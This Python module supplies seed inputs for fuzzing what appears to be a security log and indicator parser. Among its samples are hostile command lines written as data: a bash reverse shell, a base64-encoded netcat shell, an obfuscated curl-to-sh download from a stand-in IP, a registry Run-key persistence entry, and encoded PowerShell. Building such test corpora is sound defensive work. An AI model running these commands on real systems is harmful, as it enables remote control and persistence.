"""Inputs to begin with: they go deep into what is fuzzed, and are spoilt from there."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import tarfile
import zipfile
import zlib

COMMAND = b"powershell -enc dwBoAG8AYQBtAGkA && type C:\\Users\\ana\\a.txt"
COMMANDS = b"\n".join(
    (
        COMMAND,
        b"w^h^o^ami /all",
        b"bash -i >& /dev/tcp/192.0.2.7/443 0>&1",
        b"echo bmMgLWUgL2Jpbi9zaCAxOTIuMC4yLjcgNDQ0NA== | base64 -d | sh",
        b"curl$IFS-fsSL${IFS}http://192.0.2.7/a.sh|sh",
        b'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "c:\\a b.exe" /f',
    )
)

INDICATORS = [
    b"hxxps[:]//evil[.]example[.]com[:]8443/a[.]php?u=http%3A%2F%2Fb.com%2Fx, john[at]evil(dot)ru 198[.]51.100.7/24",
    b'"C:\\Program Files (x86)\\a b\\c.exe" HKLM\\a\\b c\\x \\\\srv\\share$\\a %APPDATA%\\x.exe /tmp/a\\ b',
    "http://[2001:db8::1]:80/\u00fc b\u00fccher.de \u8bbf\u95eeevil.com 00:11:22:33:44:55 fe80::1 \u201chttp://a.com/x\u201d".encode(),
    b"d41d8cd98f00b204e9800998ecf8427e CVE-2021-44228 T1059.001 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa ::ffff:192.0.2.1",
]


def _zip(method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("a.txt", COMMAND)
        archive.writestr("b/c.bin", bytes(range(64)))
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("a.txt")
        info.size = len(COMMAND)
        archive.addfile(info, io.BytesIO(COMMAND))
    return out.getvalue()


def _seven_zip() -> list[bytes]:
    try:
        import libarchive
    except (ImportError, OSError, TypeError, AttributeError):
        return []
    out = bytearray()

    def write(block: bytes) -> int:
        out.extend(block)
        return len(block)

    with libarchive.custom_writer(write, "7zip") as archive:
        archive.add_file_from_memory("a.txt", len(COMMAND), COMMAND)
    return [bytes(out)]


ARCHIVES = [
    *map(_zip, (0, 8, 12, 14)), _tar(), gzip.compress(COMMAND), zlib.compress(COMMAND), bz2.compress(COMMAND),
    lzma.compress(COMMAND), lzma.compress(COMMAND, lzma.FORMAT_ALONE), gzip.compress(_tar()), *_seven_zip(),
]  # fmt: skip
TEXTS = [
    COMMAND, base64.b64encode(COMMAND), b"'SQBu' + 'AGMA'", COMMAND.hex().encode(),
    b"\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48",
    b"0x41,0x42,0x43,0x44,0x45,0x46,0x47,0x48,0x49", b"41 42 43 44 45 46 47 48 49", b"echo aWQ= | base64 -d",
    b"H4sIAAAAAAAAA", *(b"x " + base64.b64encode(one) for one in ARCHIVES),
]  # fmt: skip
NAMES = [
    b"CONTOSO\\ana", b"ana@contoso.co.uk", b"S-1-5-21-1-2-3-1001", b"https://u@[2001:db8::1]:8443/a/b.php?c=d#e",
    b"10.0.0.0/8 fe80::1%eth0 ::ffff:192.0.2.1", b'{"HostName": "web1", "a": [{"Address": "192.0.2.1"}]}',
    b"hxxps[:]//evil[.]example/a", b"\\\\web1\\c$ /home/ana C:\\Users\\ana\\x 00:1a:2b:3c:4d:5e",
]  # fmt: skip
AUDIT_LINES = (
    b'type=SYSCALL msg=audit(1604994496.155:7): arch=c000003e syscall=59 success=yes pid=7 comm="id" exe="/bin/id"',
    b'type=EXECVE msg=audit(1604994496.155:7): argc=2 a0="id" a1=2D75',
    b"node=web1 type=PROCTITLE msg=audit(1604994496.155:7): proctitle=6964002D75",
    b"type=USER_CMD msg=audit(11/10/2020 07:48:16.155:8) : pid=1 uid=ana msg='cwd=\"/\" cmd=ls res=success'",
)
AUDIT = [
    b"\n".join(AUDIT_LINES) + b"\n",
    AUDIT_LINES[-1],
    b"type=EXECVE msg=audit(1604994497.155:7): argc=2 a0=d=ana msg='cwd=\"/\" =nameless es=success'",
]
SYSLOG = [
    b"<38>Mar  1 10:00:00 web1 sshd[812]: Accepted password for ana from 192.0.2.1 port 4 ssh2",
    b'<165>1 2003-10-11T22:14:15.003Z web1 app 7 ID47 [a@1 b="c"] \xef\xbb\xbfhello',
    b"2024-03-01T10:00:00.5+01:00 web1 sudo: ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
]
PACKED = [
    b"[{'SYSCALL': ['pid=1', 'exe=\"/bin/id\"']}, {'EXECVE': ['argc=1', 'a0=\"id\"']}]",
    b'[{"USER_CMD": {"pid": "1", "cmd": "6C73"}}]',
]
SESSIONS = [
    b"\n".join(
        (
            b"Accepted publickey for ana from 192.0.2.1 port 4 ssh2: RSA SHA256:abc",
            b"    ana : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/sh -c id",
            b"pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            b"pam_unix(sshd:session): session opened for user ana by (uid=0)",
            b"pam_unix(sudo:session): session closed for user root",
            b"pam_unix(sshd:session): session closed for user ana",
        )
    )
]
SCRIPTS = [
    b"$a='i'+'ex';&($a) (\"{1}{0}\" -f 'et','N'); if($x -eq 1){ dir C:\\a | % { $_.Name } } else { [char]73+[char]69 }",
    b"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))",
    b"@{a=1;b=@(1,2,'c')} <# c #> @'\nhere\n'@ # d\n\"$($x.y) `n\" -replace 'a','b' -join ','",
    b"function f([int]$n){switch($n){1{'a'}default{'b'}};for($i=0;$i -lt 3;$i++){try{f $i}catch{}finally{}}}",
]
